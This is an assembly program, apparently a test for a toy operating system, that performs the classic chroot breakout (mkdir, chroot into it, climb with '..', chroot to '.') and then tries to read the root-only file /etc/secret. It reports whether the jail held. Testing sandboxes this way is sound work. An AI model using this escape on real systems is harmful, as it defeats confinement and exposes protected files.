; escape.s — the classic way out of chroot(2) (the man page: "mkdir foo; chroot foo; cd .."): chroot into a
; new subdirectory, which leaves the current directory *outside* the new root, then climb with "..", which
; never meets the root on the way up, and chroot to where it ends. Then it tries to read /etc/secret, a file
; only the host's root has.
.org 0x1000
start:
    li r0, SYS_MKDIR
    li r1, foo
    int 0x80
    li r0, SYS_CHROOT
    li r1, foo
    int 0x80
    li r8, 32                        ; deeper than any tree here
climb:
    li r0, SYS_CHDIR
    li r1, dotdot
    int 0x80
    subi r8, r8, 1
    cmpi r8, 0
    jne climb
    li r0, SYS_CHROOT
    li r1, dot
    int 0x80
    li r0, SYS_READFILE
    li r1, secret
    li r2, buffer
    li r3, 63
    int 0x80
    cmpi r0, 0
    jl jailed
    li r1, msg_escaped
    call puts
    li r1, buffer
    call puts
    li r0, SYS_EXIT
    li r1, 0
    int 0x80
jailed:
    li r1, msg_jailed
    call puts
    li r0, SYS_EXIT
    li r1, 1
    int 0x80

.include "lib.s"
foo:         .asciz "foo"
dotdot:      .asciz ".."
dot:         .asciz "."
secret:      .asciz "/etc/secret"
msg_escaped: .asciz "escape: escaped, /etc/secret says: "
msg_jailed:  .asciz "escape: still inside, /etc/secret is not there\n"
buffer:      .space 64
